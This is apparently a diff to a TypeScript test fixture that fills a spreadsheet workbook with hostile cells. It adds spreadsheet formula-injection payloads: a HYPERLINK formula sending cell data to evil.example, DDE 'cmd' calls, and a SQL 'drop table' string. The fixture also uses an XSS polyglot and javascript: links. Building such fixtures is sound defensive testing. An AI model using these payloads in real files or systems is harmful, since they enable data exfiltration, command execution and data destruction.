@@ -17,6 +17,19 @@ export const HOSTILE = {
  */
 export const POLYGLOT = `${HOSTILE.canary} jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(2)//><img src=x onerror=alert(3) data-hostile><iframe srcdoc="<script>parent.alert(4)</script>"></iframe><a href="javascript:alert(5)" data-hostile>x</a>\${alert(6)}{{constructor.constructor('alert(7)')()}}"autofocus/onfocus="alert(8)`;
 
+/** What spreadsheet programs calculate, fetch or call where it stands at the beginning of a cell. */
+export const FORMULAS: readonly string[] = [
+  `=HYPERLINK("https://evil.example/?"&A1,"${HOSTILE.canary}")`,
+  `+cmd|' /C calc'!A0 ${HOSTILE.canary}`,
+  `-2+3+cmd|' /C calc'!A0 ${HOSTILE.canary}`,
+  `@SUM(1+1)*cmd|' /C calc'!A0 ${HOSTILE.canary}`,
+  `  =1+1 ${HOSTILE.canary}`,
+  `＝1+1 ${HOSTILE.canary}`,
+  `\u202e${HOSTILE.canary}\u202c', "x"); drop table sessions; --`,
+];
+/** Where a row of these tabs says whose it is. */
+const COMPANY: Readonly<Record<string, number>> = { matters: 5, deadlines: 4 };
+
 /** Columns that must hold something else for the row to be shown at all. */
 const KEYS: Readonly<Record<string, Readonly<Record<number, string>>>> = {
   users: { 1: HOSTILE.email, 6: HOSTILE.photo, 9: `javascript:alert(9)//${HOSTILE.canary}`, 7: 'help@firm.example' },
@@ -34,6 +47,10 @@ export function writeHostileWorkbook(dataDir: string): void {
       yield* sample.rows(tab);
       const cells = sample.header(tab).map((_, index) => KEYS[tab]?.[index] ?? POLYGLOT);
       yield { cells };
+      const company = COMPANY[tab];
+      if (company !== undefined)
+        for (const formula of FORMULAS)
+          yield { cells: sample.header(tab).map((_, index) => (index === company ? POLYGLOT : formula)) };
       // The same with a date that cannot be read, and with links that no browser may follow.
       const link = (index: number): string => (index === 1 ? `javascript:alert(10)//${HOSTILE.canary}` : POLYGLOT);
       if (tab === 'deadlines') yield { cells: sample.header(tab).map(() => POLYGLOT) };
